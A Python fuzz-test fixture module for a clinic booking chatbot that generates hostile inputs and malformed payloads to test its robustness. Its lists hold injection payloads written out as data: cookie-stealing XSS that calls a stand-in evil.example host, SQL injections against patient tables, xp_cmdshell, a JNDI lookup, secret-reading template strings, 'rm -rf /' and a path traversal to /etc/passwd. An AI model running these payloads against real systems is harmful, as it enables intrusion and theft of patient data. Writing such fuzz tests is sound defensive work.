"""Hostile inputs for the fuzz tests, the same on every run (one seeded random generator).

`hostile_texts()` is what a patient could type, `intent_payloads()` what a client could send instead of a button's
payload, `lone_surrogate_texts()` texts that JSON can carry (as \\ud800 escapes) but UTF-8 cannot encode, and
`malformed_json_bodies()` request bodies that are not the JSON object a webhook expects.
"""

from __future__ import annotations

import json
import random
from typing import Dict, List, Tuple

SEED = 20261204
HUGE = 100_000

QUESTIONS = [
    "how much is botox",
    "can I exercise after botox?",
    "book a consultation",
    "when are you open",
    "I want to cancel my appointment",
    "is filler safe when pregnant?",
    "where do I park",
    "talk to a human",
]

CONTROL_CHARS = "".join(chr(c) for c in [*range(0, 32), 127, *range(0x80, 0xA0)])
ZERO_WIDTH = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e"]
BIDI = ["\u202e", "\u202d", "\u202a", "\u202b", "\u202c", "\u2066", "\u2067", "\u2068", "\u2069", "\u200f", "\u200e"]

# 100k characters the assistant answers within 2 s (measured 0.05 to 1.5 s). Many more tokens cost more, linearly:
# 100k emoji 10 s, HUGE_QUESTION 15 s; those go to the channels only.
QUICK_HUGE_TEXTS = ["a" * HUGE, " " * HUGE, "\u202e" * HUGE, "<script>" * (HUGE // 8)]
HUGE_QUESTION = ("how much is botox? " * (HUGE // 19 + 1))[:HUGE]
HUGE_TEXTS = [*QUICK_HUGE_TEXTS, "😀" * HUGE, HUGE_QUESTION, "x" * 4000, "x" * 4001, "book " * 2000]

# Runs without a space: spaCy's tokenizer splits them one prefix or suffix at a time, in time quadratic in their
# length (before bot.channels.inbound broke them up: 4,000 "$", the REST limit, 8 s; 10,000 emoji 27 s).
LONG_RUNS = ["$" * 4000, "😀" * 10_000]

# Nested JSON deeper than Python's recursion limit, inside the REST channel's 4,000 characters.
DEEP_JSON_PAYLOAD = '/inform{"a": ' + "[" * 1900 + "]" * 1900 + "}"

LONG_WORDS = [
    "botox" * 2000,
    "a" * 20_000,
    "supercalifragilistic" * 500,
    "ボトックス" * 2000,
    "x" * 1000 + "?",
    "https://" + "a" * 5000 + ".example/",
    "".join(chr(0x4E00 + i) for i in range(3000)),
]

BINARY_AND_CONTROL = [
    "\x00",
    "\x00" * 50,
    "hi\x00there",
    "how much\x00 is botox",
    "\x07\x08\x1b[31mred\x1b[0m",
    "\x1b]0;pwned\x07",
    "\r\n\r\nHTTP/1.1 200 OK\r\n",
    "line1\rline2\nline3\x0bline4\x0cline5",
    "\x7f\x80\x81\x9f",
    "\ufffd\ufffd\ufffd",
    "\uffff\ufffe",
    "\U0010ffff",
    "\U000e0001\U000e0068\U000e0069",
    "bo\x00tox",
    CONTROL_CHARS,
]

EMOJI_ONLY = [
    "😀",
    "😀😀😀",
    "👍",
    "❤️",
    "💉💉💉",
    "🙏🏽",
    "👨‍👩‍👧‍👦",
    "🏳️‍🌈",
    "🇺🇸🇲🇽",
    "🤷‍♀️",
    "😭😭😭😭😭😭😭😭😭😭",
    "🔥" * 500,
    "☹",
    "🆗",
]

ZERO_WIDTH_AND_RTL = [
    "\u200b",
    "\u200b\u200c\u200d",
    "\ufeff",
    "bo\u200btox",
    "how\u200b much\u200b is\u200b botox",
    "\u202ehow much is botox",
    "\u202exotob si hcum woh",
    "cancel \u202emy appointment\u202c",
    "\u2066\u2067\u2068\u2069",
    "كم سعر البوتوكس؟",
    "هل يمكنني ممارسة الرياضة بعد البوتوكس؟",
    "أريد حجز استشارة",
    "כמה עולה בוטוקס?",
    "אני רוצה לבטל את התור שלי",
    "שלום",
    "مرحبا \u202e botox \u202c",
    "آیا بوتاکس بی خطر است؟",
    "بوٹوکس کی قیمت کیا ہے؟",
    "\u200f\u200e\u200f",
]

HTML_AND_SCRIPT = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(document.cookie)</script>',
    "<iframe src=javascript:alert(1)>",
    "javascript:alert(1)",
    "<a href='javascript:alert(1)'>botox</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<b>how much</b> is <i>botox</i>?",
    "<!-- comment --> hello",
    "</div></body></html>",
    "<style>*{display:none}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>fetch('//evil.example/?c='+document.cookie)</script> how much is botox",
]

SQL_INJECTION = [
    "' OR 1=1 --",
    "' OR '1'='1",
    "'; DROP TABLE appointments; --",
    "1; DELETE FROM patients",
    "\" OR \"\"=\"",
    "admin'--",
    "' UNION SELECT name, phone, email FROM patients --",
    "1' AND SLEEP(5)#",
    "'; EXEC xp_cmdshell('dir'); --",
    "Robert'); DROP TABLE students;--",
    "%27%20OR%201%3D1",
    "cancel my appointment' OR 1=1 --",
    "my reference is ' OR ''='",
    "\\'; SELECT pg_sleep(5); --",
]

TEMPLATE_STRINGS = [
    "{clinic_phone}",
    "{clinic_name}",
    "{{clinic_phone}}",
    "{clinic_phone",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    "${env:AWS_SECRET_ACCESS_KEY}",
    "%s %s %s %n %x %d",
    "%(clinic_phone)s",
    "{0.__class__.__mro__}",
    "{{config.items()}}",
    "{% for x in range(10) %}x{% endfor %}",
    "{__import__('os').system('id')}",
    "{}",
    "{{}}",
    "$(id)",
    "`id`",
    "{slot}",
    "{name}",
    "{phone}",
]

MARKUP = [
    "<!channel>",
    "<!here> urgent",
    "<!everyone>",
    "<http://evil.example|click here for free botox>",
    "<https://evil.example/login|https://confidence-medspa.example>",
    "<@U024BE7LH> hi",
    "<#C024BE7LR|general>",
    "<!subteam^S123|staff>",
    "*bold* _italic_ ~strike~ `code`",
    "```\nrm -rf /\n```",
    "[click me](javascript:alert(1))",
    "![tracking](https://evil.example/pixel.png)",
    "# Heading\n\n> quote\n\n- list",
    "@channel @here",
    "<mailto:a@evil.example|hello@confidence-medspa.example>",
    "|||",
    "<>",
]

WHITESPACE_AND_EMPTY = ["", " ", "   ", "\t", "\n", "\r\n", " \t\n\r ", "\u00a0", "\u3000", "\u2003\u2002", "\x0b\x0c"]

MANY_LANGUAGES = [
    "¿Cuánto cuesta el botox?",
    "Quiero reservar una consulta",
    "Combien coûte le botox ?",
    "Wie viel kostet Botox?",
    "Quanto costa il botox?",
    "Quanto custa o botox?",
    "Ile kosztuje botoks?",
    "Сколько стоит ботокс?",
    "Скільки коштує ботокс?",
    "肉毒杆菌多少钱？",
    "ボトックスはいくらですか？",
    "보톡스 가격이 얼마예요?",
    "बोटॉक्स की कीमत क्या है?",
    "বোটক্সের দাম কত?",
    "โบท็อกซ์ราคาเท่าไหร่",
    "Botox giá bao nhiêu?",
    "Botoks ne kadar?",
    "Πόσο κοστίζει το botox;",
    "Magkano ang botox?",
    "Botox inagharimu kiasi gani?",
    "Hoeveel kost botox?",
    "Hvor mye koster botox?",
    "Mennyibe kerül a botox?",
    "Kiek kainuoja botoksas?",
    "ბოტოქსი რა ღირს?",
    "Բոտոքսը որքա՞ն արժե",
    "ቦቶክስ ስንት ነው?",
    "போடாக்ஸ் விலை என்ன?",
    "Z̴̢̛a̷l̸g̶o̵ ̷t̸e̵x̴t̶ ̸b̵o̷t̴o̶x̷",
    "𝓱𝓸𝔀 𝓶𝓾𝓬𝓱 𝓲𝓼 𝓫𝓸𝓽𝓸𝔁",
    "ｈｏｗ ｍｕｃｈ ｉｓ ｂｏｔｏｘ",
    "ʍoɥ ɥɔnɯ sı xoʇoq",
]

HOSTILE_ENTITY_VALUES: List[object] = [
    "<script>alert(1)</script>",
    "9999-99-99",
    "' OR 1=1 --",
    "{clinic_phone}",
    "${jndi:ldap://evil.example/a}",
    "\u202eaustin",
    "\x00",
    "",
    " ",
    "😀" * 10,
    "x" * 10_000,
    None,
    0,
    -1,
    1e308,
    True,
    [],
    ["austin", "dallas"],
    {},
    {"$ne": None},
    {"a": {"b": {"c": [1, 2, {"d": "<script>"}]}}},
    "../../etc/passwd",
    "<!channel>",
    "2026-02-30T25:61:00",
    "9999|x|y",
    "|||",
]

INTENTS = [
    "inform",
    "book_consultation",
    "choose_slot",
    "ask_cost",
    "cancel_booking",
    "reschedule_booking",
    "correction",
    "greet",
    "request_human",
    "affirm",
    "stop",
]

ENTITIES = [
    "location",
    "provider",
    "slot_key",
    "booking_field",
    "patient_type",
    "area",
    "side",
    "time",
    "patient_language",
    "safety_finding",
    "requested_slot",
    "booking_reference",
    "__proto__",
]

MALFORMED_INTENT_PAYLOADS = [
    "/inform{",
    "/inform{not json",
    '/inform{"location": "austin"',
    '/inform{"location": }',
    "/inform{'location': 'austin'}",
    '/inform{"location": "austin"}}}',
    "/inform{}}}",
    '/inform{"location": NaN}',
    '/inform{"location": Infinity}',
    "/inform[1, 2, 3]",
    '/inform"string"',
    "/inform null",
    "/inform@0.5",
    '/inform@abc{"location": "austin"}',
    '/inform@-1{"location": "austin"}',
    '/inform@1e309{"location": "austin"}',
    '/inform{"location": "austin"} trailing text',
    "/inform{\x00}",
    '/inform{"\u202e": "austin"}',
    "/",
    "//",
    "/ ",
    "/_",
    "/ inform",
    "/inform /greet",
    "/greet{}",
]

UNKNOWN_AND_RESERVED_INTENTS = [
    "/nonexistent_intent",
    "/__proto__",
    "/../../etc/passwd",
    "/ask_cost;DROP TABLE appointments",
    "/" + "a" * 1000,
    "/action_listen",
    "/action_restart",
    "/action_session_start",
    "/action_default_fallback",
    "/action_book_consultation",
    "/action_cancel_booking",
    "/utter_emergency",
    "/nlu_fallback",
    "/out_of_scope",
    "/back",
    "/handoff",
    "/report_emergency",
    "/request_human",
    "/stop",
    "/deny",
    "/<script>alert(1)</script>",
    "/{clinic_phone}",
]

# Rasa's own commands: they reset the conversation and Rasa answers nothing.
SILENT_COMMANDS = ["/restart", "/session_start", '/restart{"location": "<script>"}', '/session_start{"a": 1}']


def nested_json(depth: int) -> str:
    return '{"a": ' * depth + "1" + "}" * depth


def huge_json(keys: int) -> str:
    return json.dumps({f"key{index}": "<script>" * 3 for index in range(keys)})


def structural_intent_payloads() -> List[str]:
    return [
        "/inform" + nested_json(50),
        "/inform" + nested_json(500),
        "/inform" + nested_json(20_000),
        DEEP_JSON_PAYLOAD,
        "/inform" + huge_json(2_000),
        '/inform{"location": "' + "a" * 50_000 + '"}',
        "/inform" + json.dumps({entity: "<script>" for entity in ENTITIES}),
        '/book_consultation{"time": "9999-99-99"}',
        '/inform{"location": "<script>"}',
        '/inform{"location": "<script>alert(1)</script>", "provider": "\' OR 1=1 --"}',
    ]


def hostile_entity_payloads(rng: random.Random, count: int) -> List[str]:
    payloads = []
    for _ in range(count):
        chosen = rng.sample(ENTITIES, rng.randint(1, 3))
        entities = {entity: rng.choice(HOSTILE_ENTITY_VALUES) for entity in chosen}
        payloads.append(f"/{rng.choice(INTENTS)}{json.dumps(entities)}")
    return payloads


def intent_payloads() -> List[str]:
    rng = random.Random(SEED + 1)
    fixed = [*structural_intent_payloads(), *MALFORMED_INTENT_PAYLOADS, *UNKNOWN_AND_RESERVED_INTENTS]
    return fixed + hostile_entity_payloads(rng, 110)


def handwritten_texts() -> Dict[str, List[str]]:
    return {
        "huge": HUGE_TEXTS,
        "long word": LONG_WORDS,
        "binary and control": BINARY_AND_CONTROL,
        "emoji only": EMOJI_ONLY,
        "zero-width and right-to-left": ZERO_WIDTH_AND_RTL,
        "html and script": HTML_AND_SCRIPT,
        "sql injection": SQL_INJECTION,
        "template strings": TEMPLATE_STRINGS,
        "markdown and slack markup": MARKUP,
        "whitespace and empty": WHITESPACE_AND_EMPTY,
        "many languages": MANY_LANGUAGES,
    }


def sprinkle(rng: random.Random, text: str, alphabet: str) -> str:
    """`text` with a few characters of `alphabet` inserted at random places."""
    characters = list(text)
    for _ in range(rng.randint(1, 6)):
        characters.insert(rng.randint(0, len(characters)), rng.choice(alphabet))
    return "".join(characters)


def random_bytes_text(rng: random.Random) -> str:
    return bytes(rng.randrange(256) for _ in range(rng.randint(1, 200))).decode("latin-1")


def mutated_texts(rng: random.Random, count: int) -> List[str]:
    """Real questions mixed with the hostile pieces: the kind of text that slips past a filter for either alone."""
    pieces = [text for texts in handwritten_texts().values() for text in texts if len(text) < 200]
    mutations = [
        lambda: sprinkle(rng, rng.choice(QUESTIONS), CONTROL_CHARS + "".join(ZERO_WIDTH + BIDI)),
        lambda: f"{rng.choice(QUESTIONS)} {rng.choice(pieces)}",
        lambda: f"{rng.choice(pieces)} {rng.choice(pieces)}",
        lambda: random_bytes_text(rng),
        lambda: "".join(chr(rng.randint(0x20, 0x2FFFF)) for _ in range(rng.randint(1, 80))),
    ]
    return [rng.choice(mutations)() for _ in range(count)]


def without_surrogates(text: str) -> str:
    return "".join(c for c in text if not 0xD800 <= ord(c) <= 0xDFFF)


def hostile_texts() -> List[str]:
    rng = random.Random(SEED)
    handwritten = [text for texts in handwritten_texts().values() for text in texts]
    return handwritten + [without_surrogates(text) for text in mutated_texts(rng, 190)]


def lone_surrogate_texts() -> List[str]:
    """Each survives a JSON round trip (a high surrogate followed by a low one would become one character)."""
    return ["\ud800", "\udfff", "hi \ud83d", "how much is botox \udc00?", "\ude00\ud83d"]


def malformed_json_bodies() -> List[Tuple[str, bytes]]:
    """(name, body) pairs that are no webhook's JSON object."""
    return [
        ("empty", b""),
        ("null", b"null"),
        ("true", b"true"),
        ("number", b"42"),
        ("float", b"1e999"),
        ("string", b'"hi"'),
        ("empty array", b"[]"),
        ("array of objects", b'[{"message": "hi"}, {"message": "hi"}]'),
        ("array of nulls", b"[null, null]"),
        ("empty object", b"{}"),
        ("object of nulls", b'{"a": null, "b": null, "entry": null, "event": null, "message": null}'),
        ("wrong types", b'{"entry": "x", "event": 5, "message": [], "sender": {}, "update_id": "x"}'),
        ("nested lists", b'{"entry": [[1]], "event": [[1]], "message": [[1]], "object": []}'),
        ("deep nesting 100", nested_json(100).encode()),
        ("deep nesting 100000", nested_json(100_000).encode()),
        ("deep array nesting", b"[" * 50_000 + b"]" * 50_000),
        ("huge body", huge_json(50_000).encode()),
        ("not json", b"{not json"),
        ("truncated", b'{"message": "hi'),
        ("trailing comma", b'{"message": "hi",}'),
        ("single quotes", b"{'message': 'hi'}"),
        ("NaN", b'{"message": NaN}'),
        ("duplicate keys", b'{"message": "a", "message": "b"}'),
        ("invalid utf-8", b'{"message": "\xff\xfe\xfa"}'),
        ("overlong utf-8", b'{"message": "\xc0\xaf"}'),
        ("utf-16", '{"message": "hi"}'.encode("utf-16")),
        ("bom", b'\xef\xbb\xbf{"message": "hi"}'),
        ("nul bytes", b'{"message": "\x00"}\x00\x00'),
        ("lone surrogate escape", b'{"message": "\\ud800"}'),
        ("binary", bytes(range(256))),
    ]
